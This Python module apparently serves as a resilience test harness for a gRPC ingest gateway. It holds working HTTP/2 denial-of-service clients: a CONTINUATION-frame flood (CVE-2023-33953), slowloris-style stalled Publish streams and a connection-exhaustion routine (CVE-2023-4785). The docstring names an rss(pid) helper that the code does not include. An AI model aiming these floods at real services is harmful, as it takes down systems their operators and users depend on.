"""Hostile gRPC clients: hand-made HTTP/2 frames on raw sockets, for what grpcio will not send.

- continuation_flood(): HEADERS without END_HEADERS, then CONTINUATION frames
  for as long as asked (CVE-2023-33953: gRPC 1.51 buffered them all).
- StalledStreams: Publish calls that announce a message of `size` bytes, send
  all of it but the last byte as fast as flow control lets them, then stall,
  keeping their connections alive (PINGs and SETTINGS are answered).
- hold_connections(): plain TCP connections, as many as asked (descriptor
  exhaustion, CVE-2023-4785).
- rss(pid): a process's resident set, to watch what the attacks cost it.

Only the standard library: these are the attacks' bytes, spelled out, not a
second HTTP/2 implementation to trust.
"""
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
DEFAULT_WINDOW = 65535


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 5.1) with `first`'s high bits in the first byte."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """A literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_headers(authority, path):
    return b"".join(hpack_literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers")))


class Conn:
    """One HTTP/2 connection, the client side, frames written by hand.

    A reader thread answers SETTINGS and PING (a live peer, not a dead
    socket), tracks the peer's flow-control windows, and notes GOAWAY,
    RST_STREAM and the connection's end.
    """

    def __init__(self, host, port, timeout=10):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        # Blocking from here on: a send that timed out half-way would leave a torn frame on the wire,
        # and the server's protocol error would pass for it having cut the client off.
        self.sock.settimeout(None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}"
        self.lock = threading.Condition()
        self.send_lock = threading.Lock()
        self.conn_window = DEFAULT_WINDOW
        self.initial_window = DEFAULT_WINDOW
        self.stream_windows = {}
        self.goaway = None  # (last stream id, error code)
        self.settings_seen = False
        # Mute: answer nothing. A header block must go out whole (RFC 9113 6.10): a SETTINGS or PING
        # ack sent in the middle of one is a protocol error, and the server's close would pass for it
        # cutting the client off.
        self.mute = False
        self.resets = {}  # stream -> error code
        self.closed = False
        self.closed_at = None  # time.monotonic() when the peer ended the connection or sent GOAWAY
        self.bytes_sent = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.send_lock:
            self.sock.sendall(data)
            self.bytes_sent += len(data)

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            try:
                chunk = self.sock.recv(n - len(buf))
            except socket.timeout:  # the socket's timeout is the sender's (a blocked send): keep reading
                continue
            if not chunk:
                raise ConnectionError("closed by the peer")
            buf += chunk
        return buf

    def _read(self):
        try:
            while True:
                head = self._recv_exact(9)
                length = int.from_bytes(head[:3], "big")
                ftype, flags, stream = head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
                payload = self._recv_exact(length) if length else b""
                with self.lock:
                    if ftype == SETTINGS and not flags & ACK:
                        self.settings_seen = True
                        for i in range(0, len(payload) - 5, 6):
                            key, value = struct.unpack(">HI", payload[i:i + 6])
                            if key == SETTINGS_INITIAL_WINDOW_SIZE:
                                for s in self.stream_windows:
                                    self.stream_windows[s] += value - self.initial_window
                                self.initial_window = value
                        if not self.mute:
                            self.send(frame(SETTINGS, ACK, 0))
                    elif ftype == PING and not flags & ACK:
                        if not self.mute:
                            self.send(frame(PING, ACK, 0, payload))
                    elif ftype == WINDOW_UPDATE:
                        inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                        if stream == 0:
                            self.conn_window += inc
                        elif stream in self.stream_windows:
                            self.stream_windows[stream] += inc
                    elif ftype == GOAWAY:
                        self.goaway = struct.unpack(">II", payload[:8])
                        self.closed_at = self.closed_at or time.monotonic()
                    elif ftype == RST_STREAM:
                        self.resets[stream] = int.from_bytes(payload[:4], "big")
                    self.lock.notify_all()
        except (OSError, ConnectionError):
            pass
        with self.lock:
            self.closed = True
            self.closed_at = self.closed_at or time.monotonic()
            self.lock.notify_all()

    def open_stream(self, stream, path):
        with self.lock:
            self.stream_windows[stream] = self.initial_window
        self.send(frame(HEADERS, END_HEADERS, stream, request_headers(self.authority, path)))

    def send_data(self, stream, data, deadline):
        """Sends data on stream as the windows allow. False when they stay shut until deadline (a stall
        the server chose) or the stream or connection ends."""
        view = memoryview(data)
        while view:
            with self.lock:
                while True:
                    if self.closed or stream in self.resets:
                        return False
                    n = min(len(view), 16384, self.conn_window, self.stream_windows[stream])
                    if n > 0:
                        break
                    if not self.lock.wait(timeout=max(0.0, deadline - time.monotonic())) and \
                            time.monotonic() >= deadline:
                        return False
                self.conn_window -= n
                self.stream_windows[stream] -= n
            try:
                self.send(frame(DATA, 0, stream, bytes(view[:n])))
            except OSError:
                return False
            view = view[n:]
        return True

    def wait_settings(self, timeout):
        """True once the server's SETTINGS came (and were acknowledged) within timeout."""
        deadline = time.monotonic() + timeout
        with self.lock:
            while not self.settings_seen and not self.closed:
                left = deadline - time.monotonic()
                if left <= 0:
                    break
                self.lock.wait(left)
            return self.settings_seen

    def wait_closed(self, timeout):
        """True once the peer closed the connection (or sent GOAWAY) within timeout."""
        deadline = time.monotonic() + timeout
        with self.lock:
            while not self.closed and self.goaway is None:
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                self.lock.wait(left)
        return True

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.reader.join(timeout=5)


def continuation_flood(host, port, seconds, mode="fields", path="/ingest.v1.Ingest/Publish"):
    """HEADERS without END_HEADERS, then CONTINUATION frames for `seconds` or until the server ends the
    connection. mode "fields": every frame full of small complete header fields (the header block
    grows field by field); "string": one literal whose announced length (2 GiB) never arrives.
    Returns {"sent": bytes, "closed_after": seconds until the server closed or sent GOAWAY, None if
    it did not within `seconds`, "goaway": (last stream, code) or None}."""
    c = Conn(host, port)
    # The server's SETTINGS acknowledged first, then silence: nothing may split the header block.
    c.wait_settings(5)
    c.mute = True
    start = time.monotonic()
    head = request_headers(c.authority, path)
    if mode == "fields":
        chunk = b"".join(hpack_literal("x-flood", f"{i:08d}") for i in range(16384 // 19))
        c.send(frame(HEADERS, 0, 1, head))
    elif mode == "string":
        chunk = b"a" * 16384
        c.send(frame(HEADERS, 0, 1, head + b"\x00\x07x-flood" + hpack_int(1 << 31, 7)))
    else:
        raise ValueError(mode)
    cont = frame(CONTINUATION, 0, 1, chunk)
    # A server that stops reading blocks the send: the time limit then ends it from another thread.
    stop_at = start + seconds
    timer = threading.Timer(seconds, lambda: c.sock.shutdown(socket.SHUT_WR))
    timer.start()
    try:
        while time.monotonic() < stop_at and not c.closed and c.goaway is None:
            c.send(cont)
    except OSError:
        pass
    timer.cancel()
    if not c.closed and c.goaway is None:
        c.wait_closed(max(0.0, stop_at - time.monotonic()) + 0.5)
    # Our own shutdown at the time limit makes the server close too: that does not count.
    closed_after = c.closed_at - start if c.closed_at is not None and c.closed_at < stop_at else None
    result = {"sent": c.bytes_sent, "closed_after": closed_after, "goaway": c.goaway}
    c.close()
    return result


class StalledStreams:
    """n Publish calls over `conns` connections, each announcing a `size`-byte message and sending all
    of it but the last byte, then stalling with the connection kept alive. close() lets them go."""

    def __init__(self, host, port, n, size, conns=10, path="/ingest.v1.Ingest/Publish", timeout=60):
        self.conns = [Conn(host, port) for _ in range(conns)]
        self.sent = [0] * n
        self.stopped = threading.Event()
        body = struct.pack(">BI", 0, size) + b"\0" * (size - 1)
        deadline = time.monotonic() + timeout
        threads = []
        for i in range(n):
            conn = self.conns[i % conns]
            stream = 1 + 2 * (i // conns)
            conn.open_stream(stream, path)

            def run(i=i, conn=conn, stream=stream):
                if conn.send_data(stream, body, deadline):
                    self.sent[i] = len(body)

            threads.append(threading.Thread(target=run, daemon=True))
        for t in threads:
            t.start()
        self.threads = threads

    def wait(self, timeout):
        """Waits until every stream sent what it may or timeout passed. The bytes the gateway took."""
        end = time.monotonic() + timeout
        for t in self.threads:
            t.join(max(0.0, end - time.monotonic()))
        return sum(c.bytes_sent for c in self.conns)

    def close(self):
        for c in self.conns:
            c.close()


def hold_connections(host, port, n, timeout=5):
    """Opens n TCP connections to host:port (those the server does not accept stay in its backlog or
    fail); returns the sockets that connected. Each sends the HTTP/2 preface, as a client would."""
    held = []
    for _ in range(n):
        try:
            s = socket.create_connection((host, port), timeout=timeout)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            held.append(s)
        except OSError:
            break
    return held
